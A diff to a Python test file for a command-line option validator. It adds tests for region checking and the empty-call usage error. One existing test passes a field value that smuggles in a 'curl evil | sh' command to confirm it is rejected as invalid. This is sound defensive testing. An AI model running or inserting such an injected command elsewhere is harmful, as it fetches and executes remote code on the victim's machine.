@@ -63,3 +63,14 @@ def test_injection_attempt_is_just_an_invalid_value():
     result = run("--studies", 'oltp"; curl evil | sh; echo "', "--systems", "sqlite", "--profile", "ci")
     assert result.returncode == 2
     assert "valid values are oltp, mcp-db, analytical" in result.stderr
+
+
+def test_region_alone_can_be_checked():
+    assert run("--region", "us-east-1").returncode == 0
+    bad = run("--region", "")
+    assert bad.returncode == 2 and "valid values are us-east-1" in bad.stderr
+
+
+def test_nothing_to_check_is_a_usage_error():
+    result = run()
+    assert result.returncode == 2 and "at least one field" in result.stderr
